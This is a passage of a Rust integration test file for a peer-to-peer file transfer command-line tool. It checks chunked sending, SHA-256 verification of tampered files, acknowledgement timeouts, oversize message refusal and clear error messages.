            Out::Binary(data[..CHUNK].to_vec()),
            Out::Binary(data[CHUNK..].to_vec()),
            end(1, &sha256_hex(b"something else")),
        ],
        1,
    ));
    assert_eq!(acks.len(), 1, "the sender is told: {acks:?}");
    let nack = json(&acks[0]);
    assert_eq!(
        (&nack["type"], &nack["id"]),
        (&"file-error".into(), &1.into())
    );
    assert!(
        nack["reason"]
            .as_str()
            .unwrap()
            .starts_with("hash mismatch in transfer 1 (tampered.bin): file-end says sha256"),
        "{nack}"
    );
    let status = receiver.wait_exit(Duration::from_secs(60));
    let stderr = receiver.stderr();
    assert!(
        !status.success(),
        "receive must fail on a hash mismatch; stderr:\n{stderr}"
    );
    assert!(
        stderr.contains("hash mismatch in transfer 1 (tampered.bin)"),
        "{stderr}"
    );
    assert!(
        receiver.lines.try_recv().is_err(),
        "no sha256sum line for a bad file"
    );
    assert_nothing_kept(dst.path());
}

#[test]
fn sender_leaving_mid_file_fails_receive() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    let mut receiver = receive(&ws, "cut", dst.path(), 1);
    runtime().block_on(raw_send(
        &ws,
        "cut",
        vec![
            start(3, "half.bin", 4 * CHUNK),
            Out::Binary(vec![1; CHUNK]),
            Out::Binary(vec![2; CHUNK]),
        ],
        0,
    ));
    let status = receiver.wait_exit(Duration::from_secs(60));
    let stderr = receiver.stderr();
    assert!(!status.success(), "receive must fail; stderr:\n{stderr}");
    assert!(
        stderr.contains(
            "peer disconnected mid-file: transfer 3 (half.bin) stopped at 131072 of 262144 bytes"
        ),
        "{stderr}"
    );
    assert_nothing_kept(dst.path());
}

#[test]
fn protocol_violation_fails_receive_with_a_clear_error() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    let mut receiver = receive(&ws, "stray", dst.path(), 1);
    let acks = runtime().block_on(raw_send(&ws, "stray", vec![Out::Binary(vec![0; 100])], 1));
    assert_eq!(
        acks.iter().map(|a| json(a)).collect::<Vec<_>>(),
        [serde_json::json!({
            "type": "file-error",
            "reason": "chunk without start: 100-byte binary message with no file-start"
        })],
        "a fault of no transfer is acknowledged without id"
    );
    let status = receiver.wait_exit(Duration::from_secs(60));
    let stderr = receiver.stderr();
    assert!(!status.success());
    assert!(
        stderr.contains("chunk without start: 100-byte binary message with no file-start"),
        "{stderr}"
    );
}

#[test]
fn send_emits_the_documented_messages_in_64_kib_chunks() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let data = Noise(seed()).bytes(3 * CHUNK + 1234);
    let path = src.path().join("chunks.bin");
    std::fs::write(&path, &data).unwrap();
    let rt = runtime();
    let transport = library_peer(&rt, &ws, "chunks");
    let mut sender = send(&ws, "chunks", &[path]);
    let messages = rt.block_on(recv_n(&transport, 6));
    // Until acknowledged, `send` waits.
    thread::sleep(Duration::from_millis(500));
    assert!(
        sender.child.try_wait().unwrap().is_none(),
        "send waits for file-received"
    );
    let ack = format!(
        r#"{{"type":"file-received","id":1,"sha256":"{}"}}"#,
        sha256_hex(&data)
    );
    rt.block_on(transport.send_text(&messages[0].from, &ack))
        .unwrap();
    sender.expect_success();
    let me = transport.peer_id().to_string();
    assert!(
        sender.stderr().contains(&format!("verified by {me}")),
        "{}",
        sender.stderr()
    );
    rt.block_on(transport.close()).unwrap();

    assert!(messages[0].text);
    let startmsg: serde_json::Value = serde_json::from_slice(&messages[0].data).unwrap();
    assert_eq!(
        startmsg,
        serde_json::json!({"type": "file-start", "id": 1, "name": "chunks.bin", "size": data.len()})
    );
    let chunks: Vec<&[u8]> = messages[1..5]
        .iter()
        .map(|m| {
            assert!(!m.text);
            &m.data[..]
        })
        .collect();
    assert_eq!(
        chunks.iter().map(|c| c.len()).collect::<Vec<_>>(),
        vec![CHUNK, CHUNK, CHUNK, 1234]
    );
    assert!(chunks.concat() == data);
    assert!(messages[5].text);
    let endmsg: serde_json::Value = serde_json::from_slice(&messages[5].data).unwrap();
    assert_eq!(
        endmsg,
        serde_json::json!({"type": "file-end", "id": 1, "sha256": sha256_hex(&data)})
    );
}

/// The next `n` messages of `transport` (at most 60 s each).
async fn recv_n(transport: &Transport, n: usize) -> Vec<miaou_transport::Message> {
    let mut messages = Vec::new();
    while messages.len() < n {
        let message = tokio::time::timeout(Duration::from_secs(60), transport.recv())
            .await
            .expect("messages in time")
            .unwrap();
        messages.push(message);
    }
    messages
}

#[test]
fn send_fails_on_a_missing_or_wrong_acknowledgement() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let path = src.path().join("unheard.txt");
    std::fs::write(&path, b"is anybody there").unwrap();
    let rt = runtime();
    let transport = library_peer(&rt, &ws, "acks");
    let me = transport.peer_id().to_string();

    // Nobody acknowledges: --ack-timeout.
    let started = Instant::now();
    let mut silent = send_with(
        &ws,
        "acks",
        &["--ack-timeout", "2"],
        std::slice::from_ref(&path),
    );
    rt.block_on(recv_n(&transport, 3)); // start, the one chunk, end
    assert!(!silent.wait_exit(Duration::from_secs(60)).success());
    assert!(
        started.elapsed() < Duration::from_secs(40),
        "{:?}",
        started.elapsed()
    );
    assert!(
        silent.stderr().contains(&format!(
            "error: no acknowledgement of unheard.txt (transfer 1) from {me} within 2 s (--ack-timeout)"
        )),
        "{}",
        silent.stderr()
    );

    // The acknowledgement names another hash.
    let mut wrong = send(&ws, "acks", &[path]);
    let messages = rt.block_on(recv_n(&transport, 3));
    let zeros = "0".repeat(64);
    let ack = format!(r#"{{"type":"file-received","id":1,"sha256":"{zeros}"}}"#);
    rt.block_on(transport.send_text(&messages[0].from, &ack))
        .unwrap();
    assert!(!wrong.wait_exit(Duration::from_secs(60)).success());
    assert!(
        wrong.stderr().contains(&format!(
            "error: {me} acknowledged unheard.txt (transfer 1) with sha256 {zeros}, we sent {}",
            sha256_hex(b"is anybody there")
        )),
        "{}",
        wrong.stderr()
    );
    rt.block_on(transport.close()).unwrap();
}

#[test]
fn send_fails_naming_the_peer_that_refuses_its_messages() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let path = src.path().join("chunky.bin");
    std::fs::write(&path, Noise(seed()).bytes(4 * CHUNK)).unwrap();
    let rt = runtime();
    // A peer whose transport takes messages of 1 KiB at most: every chunk is refused (RESET).
    let config = TransportConfig::builder(&ws, "refuse")
        .max_message_size(1024)
        .build()
        .unwrap();
    let transport = rt.block_on(Transport::connect(config)).unwrap();
    let me = transport.peer_id().to_string();
    let mut sender = send(&ws, "refuse", &[path]);
    let status = sender.wait_exit(Duration::from_secs(60));
    let stderr = sender.stderr();
    assert!(!status.success(), "{stderr}");
    let error = stderr
        .lines()
        .find(|l| l.starts_with("error: "))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        error.contains(&format!("peer {me} refused a message")),
        "the error names the refusing peer: {error}"
    );
    rt.block_on(transport.close()).ok();
}

#[test]
fn receive_refuses_messages_larger_than_a_chunk_plus_control_headroom() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    let mut receiver = receive(&ws, "limit", dst.path(), 1);
    let rt = runtime();
    let data = Noise(seed()).bytes(CHUNK);
    let acks = rt.block_on(async {
        let transport = Transport::connect(TransportConfig::builder(&ws, "limit").build().unwrap())
            .await
            .unwrap();
        let peer = loop {
            match tokio::time::timeout(Duration::from_secs(60), transport.next_event()).await {
                Ok(Some(Event::PeerConnected(peer))) => break peer,
                Ok(Some(_)) => {}
                other => panic!("no peer connected: {other:?}"),
            }
        };
        // One byte over the limit: refused by the receiver's transport (RESET), reported to
        // us by `send` or, when `send` had already returned, as an event.
        let refused = match transport.send(&peer, vec![0u8; MAX_MESSAGE + 1]).await {
            Err(error) => error,
            Ok(()) => loop {
                match tokio::time::timeout(Duration::from_secs(30), transport.next_event()).await {
                    Ok(Some(Event::Error(error))) => break error,
                    Ok(Some(_)) => {}
                    other => panic!("no refusal: {other:?}"),
                }
            },
        };
        assert!(
            matches!(refused, miaou_transport::Error::MessageRefused { .. }),
            "{refused}"
        );
        // A full chunk still goes through: the connection stays up.
        let start = format!(r#"{{"type":"file-start","id":1,"name":"full.bin","size":{CHUNK}}}"#);
        transport.send_text(&peer, &start).await.unwrap();
        transport
            .send(&peer, Bytes::from(data.clone()))
            .await
            .unwrap();
        let end = format!(
            r#"{{"type":"file-end","id":1,"sha256":"{}"}}"#,
            sha256_hex(&data)
        );
        transport.send_text(&peer, &end).await.unwrap();
        let acks = recv_n(&transport, 2).await; // file-accepted, then the verdict
        assert!(is_accepted(&acks[0]), "{:?}", acks[0]);
        let acks = acks[1..].to_vec();
        let _ = transport.close().await;
        acks
    });
    assert_eq!(json(acks[0].as_text().unwrap())["type"], "file-received");
    assert_eq!(
        receiver.next_line(Duration::from_secs(60)),
        format!("{}  full.bin", sha256_hex(&data))
    );
    receiver.expect_success();
}

#[test]
fn send_errors_are_clear_and_non_zero() {
    let missing = Command::new(BIN)
        .args([
            "send",
            "--signal",
            "ws://127.0.0.1:9/ws",
            "--room",
            "x",
            "/nonexistent/file.bin",
        ])
        .output()
        .unwrap();
    assert!(!missing.status.success());
    let stderr = String::from_utf8_lossy(&missing.stderr);
    assert!(
        stderr.contains("cannot read /nonexistent/file.bin"),
        "{stderr}"
    );

    let dir = tempfile::tempdir().unwrap();
    let not_file = Command::new(BIN)
        .args(["send", "--signal", "ws://127.0.0.1:9/ws", "--room", "x"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!not_file.status.success());
    assert!(String::from_utf8_lossy(&not_file.stderr).contains("is not a regular file"));

    let (_bridge, ws) = bridge();
    let file = dir.path().join("lonely.txt");
    std::fs::write(&file, b"nobody listens").unwrap();
    let lonely = Command::new(BIN)
        .args([
            "send",
            "--signal",
            &ws,
            "--room",
            "empty-room",
            "--wait-timeout",
            "2",
        ])
        .arg(&file)
        .output()
        .unwrap();
    assert!(!lonely.status.success());
    let stderr = String::from_utf8_lossy(&lonely.stderr);
    assert!(
        stderr.contains("fewer than 1 peers connected within 2 s"),
        "{stderr}"
    );

    // Sending to "at least 0 peers" means nothing: refused, not read as 1.
    let zero = Command::new(BIN)
        .args(["send", "--signal", &ws, "--room", "x", "--wait-peers", "0"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(!zero.status.success());
    let stderr = String::from_utf8_lossy(&zero.stderr);
    assert!(stderr.contains("--wait-peers"), "{stderr}");

    // Receiving 0 files would exit 0 at once having done nothing: refused as well.
    let out = tempfile::tempdir().unwrap();
    let nothing = Command::new(BIN)
        .args([
            "receive", "--signal", &ws, "--room", "x", "--count", "0", "--out",
        ])
        .arg(out.path())
        .output()
        .unwrap();
    assert_eq!(nothing.status.code(), Some(2), "a usage error");
    let stderr = String::from_utf8_lossy(&nothing.stderr);
    assert!(stderr.contains("--count"), "{stderr}");
}
